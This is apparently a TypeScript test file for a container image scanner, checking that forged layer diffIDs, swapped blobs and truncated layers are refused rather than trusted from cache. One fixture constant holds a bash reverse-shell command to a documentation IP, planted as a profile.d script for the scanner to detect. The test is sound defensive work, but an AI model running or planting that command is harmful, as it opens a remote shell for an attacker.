/**
 * An image config's diffIDs are claims. A hostile image that claims a benign layer's diffID for its own layer, or a
 * layout whose blob file holds other bytes than its name says, must be refused, never judged from what the layer
 * cache holds for the claim (issue 11, item 1). A tampered or truncated layer stops that image with a clear error and
 * the CLI's exit 2, and the other images of the command are still scanned (item 5).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { buildOciLayout, writeDockerArchive, writeOciArchive, writeOciDirectory, writeTarFile, type ImageSpec } from '../support/image-builder.js';
import { startRegistry, type RealRegistry } from '../support/registry.js';
import { scanReference } from '../../src/scan/scan.js';
import { runCli } from '../support/cli.js';
import type { Report } from '../../src/model/index.js';

let work: string;
beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'detonate-identity-'));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

const REVERSE_SHELL = '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n';
const benign: ImageSpec = { layers: [{ entries: [{ name: 'etc/motd', content: 'welcome\n' }, { name: 'usr/share/doc/readme', content: 'nothing to see\n' }] }] };
const malicious: ImageSpec = { layers: [{ entries: [{ name: 'etc/profile.d/update.sh', content: REVERSE_SHELL, mode: 0o755 }] }] };

/** The digests remembered in a cache's `local-digests/` (one per file). */
function rememberedDigests(cacheDir: string): string[] {
  const root = join(cacheDir, 'local-digests');
  return readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => readFileSync(join(e.parentPath, e.name), 'utf8'));
}

const backdoors = (r: Report) => r.findings.filter((f) => f.category === 'backdoor').map((f) => f.path);

async function staticScan(ref: string, cacheDir: string): Promise<Report> {
  const [report] = await scanReference(ref, { cacheDir, insecureRegistries: ['127.0.0.1'] });
  return report!;
}

describe('diffIDs are verified before the layer cache is trusted', () => {
  it('a malicious layer whose config claims a benign layer diffID is refused, not judged clean from the cache', async () => {
    const cacheDir = join(work, 'cache-claim');
    const good = await writeOciArchive(join(work, 'benign.tar'), benign);
    expect(backdoors(await staticScan(`oci-archive:${join(work, 'benign.tar')}`, cacheDir))).toEqual([]);
    await writeOciArchive(join(work, 'liar.tar'), { ...malicious, claimDiffIds: good.diffIds });
    await expect(staticScan(`oci-archive:${join(work, 'liar.tar')}`, cacheDir)).rejects.toThrow(/diffID digest mismatch: expected sha256:[0-9a-f]{64}, got sha256:[0-9a-f]{64}/);
    // with no cache at all it is refused the same way: the walk hashes what it reads
    await expect(staticScan(`oci-archive:${join(work, 'liar.tar')}`, join(work, 'cache-empty'))).rejects.toThrow(/diffID digest mismatch/);
  });

  it('a benign layer claiming a malicious layer diffID does not inherit its findings', async () => {
    const cacheDir = join(work, 'cache-reverse');
    const bad = await writeOciArchive(join(work, 'malicious.tar'), malicious);
    expect(backdoors(await staticScan(`oci-archive:${join(work, 'malicious.tar')}`, cacheDir))).toEqual(['etc/profile.d/update.sh']);
    await writeOciArchive(join(work, 'framed.tar'), { ...benign, claimDiffIds: bad.diffIds });
    await expect(staticScan(`oci-archive:${join(work, 'framed.tar')}`, cacheDir)).rejects.toThrow(/diffID digest mismatch/);
  });

  it('a layout whose blob file holds other bytes than its digest names is refused even when that digest is cached', async () => {
    const cacheDir = join(work, 'cache-swap');
    const dir = join(work, 'swap');
    const good = await writeOciDirectory(dir, benign);
    expect(backdoors(await staticScan(`oci:${dir}`, cacheDir))).toEqual([]);
    // the manifest and config still name the benign layer; the file under its name now holds the malicious one
    const evil = await buildOciLayout(malicious);
    writeFileSync(join(dir, 'blobs/sha256', good.layerDigests[0]!.slice(7)), evil.files.get(`blobs/sha256/${evil.layerDigests[0]!.slice(7)}`)!);
    await expect(staticScan(`oci:${dir}`, cacheDir)).rejects.toThrow(/digest mismatch: expected sha256:[0-9a-f]{64}, got/);
  });

  it('an uncompressed docker-archive layer claiming a cached diffID is hashed before the cache answers', async () => {
    const cacheDir = join(work, 'cache-docker');
    const good = await writeDockerArchive(join(work, 'benign-docker.tar'), benign);
    expect(backdoors(await staticScan(`docker-archive:${join(work, 'benign-docker.tar')}`, cacheDir))).toEqual([]);
    await writeDockerArchive(join(work, 'liar-docker.tar'), { ...malicious, claimDiffIds: good.diffIds });
    await expect(staticScan(`docker-archive:${join(work, 'liar-docker.tar')}`, cacheDir)).rejects.toThrow(/digest mismatch/);
    // a gzip'd layer file (kaniko style) names no digest of its own: same outcome
    const gzGood = await writeDockerArchive(join(work, 'benign-kaniko.tar'), { layers: [{ ...benign.layers[0]!, compression: 'gzip' }] });
    expect(backdoors(await staticScan(`docker-archive:${join(work, 'benign-kaniko.tar')}`, cacheDir))).toEqual([]);
    await writeDockerArchive(join(work, 'liar-kaniko.tar'), { layers: [{ ...malicious.layers[0]!, compression: 'gzip' }], claimDiffIds: gzGood.diffIds });
    await expect(staticScan(`docker-archive:${join(work, 'liar-kaniko.tar')}`, cacheDir)).rejects.toThrow(/diffID digest mismatch/);
  });

  it('a warm re-scan of a genuine image still comes from the cache with the same findings', async () => {
    const cacheDir = join(work, 'cache-warm');
    const ref = `oci-archive:${join(work, 'malicious.tar')}`;
    const cold = await staticScan(ref, cacheDir);
    const warm = await staticScan(ref, cacheDir);
    expect(backdoors(warm)).toEqual(backdoors(cold));
    expect(backdoors(warm)).toEqual(['etc/profile.d/update.sh']);
  });

  it('a warm scan does not rehash an unchanged archive, and an archive changed in place (mtime put back) is hashed again and refused', async () => {
    const cacheDir = join(work, 'cache-in-place');
    const path = join(work, 'in-place.tar');
    const built = await writeOciArchive(path, malicious);
    const ref = `oci-archive:${path}`;
    expect(backdoors(await staticScan(ref, cacheDir))).toEqual(['etc/profile.d/update.sh']);
    // the cold scan verified the layer while walking it and remembered its digest by the file's identity, so even the
    // first warm scan does not hash it
    expect(rememberedDigests(cacheDir)).toContain(built.layerDigests[0]);
    expect(backdoors(await staticScan(ref, cacheDir))).toEqual(['etc/profile.d/update.sh']);
    // overwrite the layer's bytes in place with a valid gzip of another tar, same size, and put the mtime back
    const before = statSync(path);
    const { TarIndex } = await import('../../src/image/archive/tar-index.js');
    const member = (await TarIndex.open(path)).get(`blobs/sha256/${built.layerDigests[0]!.slice(7)}`)!;
    const other = gzipSync(Buffer.alloc(1024));
    const fd = openSync(path, 'r+');
    writeSync(fd, Buffer.concat([other, Buffer.alloc(member.size)]).subarray(0, member.size), 0, member.size, member.offset);
    closeSync(fd);
    utimesSync(path, before.atime, before.mtime);
    await expect(staticScan(ref, cacheDir)).rejects.toThrow(/digest mismatch/);
  });

  it('a cold scan of a docker archive or a layout remembers the layers it verified; a blob replaced in a layout is hashed again and refused', async () => {
    const cacheDir = join(work, 'cache-remember');
    // an uncompressed layer file: its digest is the diffID it claims, not hashed until the walk reads it
    const archive = await writeDockerArchive(join(work, 'remember-docker.tar'), malicious);
    expect(backdoors(await staticScan(`docker-archive:${join(work, 'remember-docker.tar')}`, cacheDir))).toEqual(['etc/profile.d/update.sh']);
    expect(rememberedDigests(cacheDir)).toContain(archive.diffIds[0]);
    const dir = join(work, 'remember-layout');
    const layout = await writeOciDirectory(dir, malicious);
    expect(backdoors(await staticScan(`oci:${dir}`, cacheDir))).toEqual(['etc/profile.d/update.sh']);
    expect(rememberedDigests(cacheDir)).toContain(layout.layerDigests[0]);
    // a new file under the blob's name (another inode) is not the one remembered: it is hashed and refused
    const evil = await buildOciLayout(benign);
    const blob = join(dir, 'blobs/sha256', layout.layerDigests[0]!.slice(7));
    rmSync(blob);
    writeFileSync(blob, evil.files.get(`blobs/sha256/${evil.layerDigests[0]!.slice(7)}`)!);
    await expect(staticScan(`oci:${dir}`, cacheDir)).rejects.toThrow(/digest mismatch/);
  });

  describe('from a registry', () => {
    let registry: RealRegistry;
    beforeAll(async () => {
      registry = await startRegistry();
      const good = await writeOciArchive(join(work, 'push-benign.tar'), benign);
      await writeOciArchive(join(work, 'push-liar.tar'), { ...malicious, claimDiffIds: good.diffIds });
      await registry.push(`oci-archive:${join(work, 'push-benign.tar')}`, 'app/benign:1', { format: 'oci' });
      await registry.push(`oci-archive:${join(work, 'push-liar.tar')}`, 'app/liar:1', { format: 'oci' });
    });
    afterAll(() => registry?.stop());

    it('a pulled layer whose content is not the diffID its config claims is refused, cached benign layer or not', async () => {
      const cacheDir = join(work, 'cache-registry');
      expect(backdoors(await staticScan(`${registry.host}/app/benign:1`, cacheDir))).toEqual([]);
      await expect(staticScan(`${registry.host}/app/liar:1`, cacheDir)).rejects.toThrow(/diffID digest mismatch/);
      await expect(staticScan(`${registry.host}/app/liar:1`, join(work, 'cache-registry-cold'))).rejects.toThrow(/diffID digest mismatch/);
    });
  });
});

describe('a tampered or truncated layer stops its image, not the command', () => {
  /** Two layers, the second replaced by other bytes of the same size: small enough to be read ahead whole. */
  async function tamperedArchive(path: string): Promise<void> {
    const built = await buildOciLayout({ layers: [{ entries: [{ name: 'a', content: Buffer.alloc(300_000, 1) }] }, { entries: [{ name: 'b', content: 'second' }] }] });
    const rel = `blobs/sha256/${built.layerDigests[1]!.slice(7)}`;
    const original = built.files.get(rel)!;
    const other = gzipSync(Buffer.alloc(1024));
    built.files.set(rel, Buffer.concat([other, Buffer.alloc(original.length)]).subarray(0, original.length));
    await writeTarFile(path, built.files);
  }

  it.each([
    ['an OCI archive with a swapped layer blob', 'oci-archive', /layer digest mismatch: expected sha256:[0-9a-f]{64}, got sha256:[0-9a-f]{64}/],
    ['an OCI layout whose gzip layer was altered in the middle', 'oci-gzip', /layer digest mismatch/],
    ['an OCI layout whose uncompressed layer was cut short', 'oci-none', /is truncated: 50 of \d+ bytes/],
    ['a docker archive (blobs/ paths) with a swapped layer blob', 'docker-blobs', /layer digest mismatch/],
  ])('%s: exit 2, one clear line, and the good image after it still gets its report', async (_name, kind, message) => {
    const good = join(work, `good-${kind}.tar`);
    await writeOciArchive(good, { layers: [{ entries: [{ name: 'etc/hello', content: 'hi\n' }] }] });
    let ref: string;
    if (kind === 'oci-archive' || kind === 'docker-blobs') {
      const path = join(work, `tampered-${kind}.tar`);
      await tamperedArchive(path);
      if (kind === 'docker-blobs') {
        // Docker 25's save layout: manifest.json naming blobs/sha256/… layers beside the OCI index
        const { TarIndex } = await import('../../src/image/archive/tar-index.js');
        const index = await TarIndex.open(path);
        const files = new Map<string, Buffer>();
        for (const name of index.names()) files.set(name, await index.read(name, 1 << 24));
        const top = JSON.parse(files.get('index.json')!.toString()) as { manifests: { digest: string }[] };
        const manifest = JSON.parse(files.get(`blobs/sha256/${top.manifests[0]!.digest.slice(7)}`)!.toString()) as { config: { digest: string }; layers: { digest: string }[] };
        files.set('manifest.json', Buffer.from(JSON.stringify([{
          Config: `blobs/sha256/${manifest.config.digest.slice(7)}`,
          RepoTags: ['tampered:1'],
          Layers: manifest.layers.map((l) => `blobs/sha256/${l.digest.slice(7)}`),
        }])));
        await writeTarFile(path, files);
        ref = `docker-archive:${path}`;
      } else {
        ref = `oci-archive:${path}`;
      }
    } else {
      const dir = join(work, `tampered-${kind}`);
      const compression = kind === 'oci-none' ? 'none' : 'gzip';
      const built = await writeOciDirectory(dir, { layers: [{ entries: [{ name: 'x', content: Buffer.alloc(100_000, 7) }], compression }] });
      const blob = join(dir, 'blobs/sha256', built.layerDigests[0]!.slice(7));
      const bytes = readFileSync(blob);
      if (kind === 'oci-none') writeFileSync(blob, bytes.subarray(0, 50));
      else {
        bytes[Math.floor(bytes.length / 2)]! ^= 0xff;
        writeFileSync(blob, bytes);
      }
      ref = `oci:${dir}`;
    }
    const cache = join(work, `cli-cache-${kind}`);
    const result = await runCli(['scan', '--static-only', '--no-vulns', '--format', 'json', ref, `oci-archive:${good}`], { DETONATE_CACHE_DIR: cache });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(result.stderr).not.toMatch(/\n\s+at |Unhandled|node:events/);
    expect(result.stderr).toContain(`1 of 2 images could not be scanned: ${ref}`);
    const report = JSON.parse(result.stdout) as Report;
    expect(report.image.reference).toBe(`oci-archive:${good}`);
    if (kind !== 'oci-archive') return;
    // alone, the tampered image is exit 2 with its message and no report at all
    const alone = await runCli(['scan', '--static-only', '--no-vulns', '--format', 'json', ref], { DETONATE_CACHE_DIR: cache });
    expect(alone.code).toBe(2);
    expect(alone.stderr).toMatch(message);
    expect(alone.stdout).toBe('');
  });
});
